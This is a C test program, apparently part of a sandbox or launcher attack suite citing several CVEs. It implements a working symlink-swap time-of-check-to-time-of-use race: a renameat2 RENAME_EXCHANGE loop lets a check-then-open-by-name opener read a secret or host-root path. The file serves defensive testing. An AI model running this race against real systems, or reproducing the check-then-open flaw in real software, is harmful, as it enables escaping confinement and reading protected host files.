// attack: swap a directory for a link to the host's root while a launch is checking and opening it
// group: B
// source: CVE-2026-87766, CVE-2024-42472, CVE-2025-31133
// layer: the launcher opens sources by descriptor, without following links
// outside: as any user, against an opener that checks and then opens by name
// needs: now
// arguments: {writable} {secret}
// given: race
#include "../attack.h"
#include <signal.h>
#include <sys/wait.h>
#include <time.h>

static char race[4096], other[4096];

/* Exchanges the directory and the link, again and again, for so many seconds. */
static void swap_for(long seconds) {
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end) {
    for (int i = 0; i < 1000; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, race, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */) < 0) {
        broken("renameat2");
      }
    }
  }
}

/* What a careless launcher does: look whether it is a directory, then use the name. */
static bool careless_opener_is_fooled(const char *secret) {
  char path[8192];
  struct stat status;
  snprintf(path, sizeof path, "%s%s", race, secret);
  if (lstat(race, &status) < 0 || !S_ISDIR(status.st_mode)) {
    return false;
  }
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file >= 0) {
    close(file);
  }
  return file >= 0;
}

int main(int argc, char **argv) {
  const char *writable = argument(argc, argv, 1, "writable");
  const char *secret = argument(argc, argv, 2, "secret, or what the link points to");
  snprintf(race, sizeof race, "%s/race", writable);
  snprintf(other, sizeof other, "%s/race.other", writable);
  rmdir(race), unlink(race), rmdir(other), unlink(other);
  if (mkdir(race, 0755) < 0 || symlink(argc > 3 ? secret : "/", other) < 0) {
    denied("mkdir and symlink");
  }
  if (argc > 3) {
    swap_for(number(argc, argv, 3, "seconds"));
    denied_because("swapped until the time was over; the launches tell who won");
  }
  pid_t swapper = fork();
  if (swapper == 0) {
    swap_for(20);
    _exit(0);
  }
  bool fooled = false;
  time_t end = time(NULL) + 15;
  while (!fooled && time(NULL) < end) {
    fooled = careless_opener_is_fooled(secret);
  }
  kill(swapper, SIGKILL);
  waitpid(swapper, NULL, 0);
  if (!fooled) {
    denied_because("the careless opener was never fooled");
  }
  succeeded("a careless opener read %s through the link", secret);
}
